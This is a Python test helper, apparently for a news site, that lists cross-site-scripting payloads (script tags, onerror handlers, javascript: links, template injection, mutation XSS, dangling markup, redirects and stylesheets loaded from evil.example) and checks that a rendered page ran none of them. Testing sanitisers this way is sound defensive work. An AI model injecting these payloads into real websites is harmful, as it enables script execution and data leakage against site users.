"""Texts that do harm wherever they are taken for more than text, and the look at a page that they did none."""

from playwright.sync_api import Page

# Each would set `window.hurt`, ask evil.example for something, or leave an element that is marked `hurt`.
PAYLOADS = {
    "script": "<script class=hurt>window.hurt='script'</script>",
    "handler": "<img class=hurt src=x onerror=\"window.hurt='handler'\">",
    "svg": "<svg class=hurt onload=window.hurt='svg'><animate onbegin=window.hurt='animate' attributeName=x></svg>",
    "frame": "<iframe class=hurt srcdoc=\"<script>parent.hurt='frame'</script>\"></iframe>",
    "link": "<a class=hurt href=\"javascript:window.hurt='link'\">read on</a>",
    "markdown": "**hurt** [read on](javascript:window.hurt='md') ![](http://evil.example/hurt.png) <http://evil.example/>",
    "latex": "$\\href{javascript:window.hurt='tex'}{x}$ $$\\unicode{<img class=hurt src=x onerror=hurt='tex'>}$$",
    "template": "${window.hurt='js'} {{constructor.constructor('window.hurt=1')()}} <%= window.hurt='erb' %> #{hurt}",
    "attribute": "\"><img class=hurt src=x onerror=window.hurt='a'> ' autofocus onfocus=window.hurt='b' x='",
    "ending": "--></textarea></title></style></script></noscript><script class=hurt>window.hurt='ending'</script>",
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hurt=1&gt;">',
    "style": "<style class=hurt>*{background:url(http://evil.example/hurt)}</style><b style='behavior:url(hurt)'>",
    "elsewhere": "<base href=http://evil.example/><link class=hurt rel=stylesheet href=http://evil.example/hurt.css>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.example/'><form class=hurt action=//evil.example>",
    "entities": "&lt;img class=hurt src=x onerror=window.hurt='entity'&gt; &#x3c;script&#x3e;hurt=1&#x3c;/script&#x3e;",
    "dangling": "<img src='http://evil.example/hurt?",
}
ALL = " ".join(PAYLOADS.values())

# The address of an article may say what it likes, as long as it leads to where articles are.
NEWS = "https://news.example/"

_LOOK = """(news) => {
    const risky = /^(on|src|href|xlink:href|action|formaction|data$|style|id$|class$|background|poster|http-equiv)/;
    const harmful = /hurt|evil\\.example|javascript:/;
    const found = window.hurt ? [`ran: ${window.hurt}`] : [];
    for (const tag of document.querySelectorAll("*"))
        for (const { name, value } of tag.attributes)
            if (risky.test(name) && harmful.test(value) && !(name === "href" && value.startsWith(news)))
                found.push(tag.outerHTML.slice(0, 200));
    const made = "script, iframe, object, embed, base, meta, strong, math, .katex";
    for (const tag of document.querySelectorAll(`#desk :is(${made})`)) found.push(tag.outerHTML.slice(0, 200));
    return found;
}"""


def assert_clean(page: Page) -> None:
    """Nothing of an attack ran in the page, and nothing of it became more than text."""
    assert page.evaluate(_LOOK, NEWS) == []
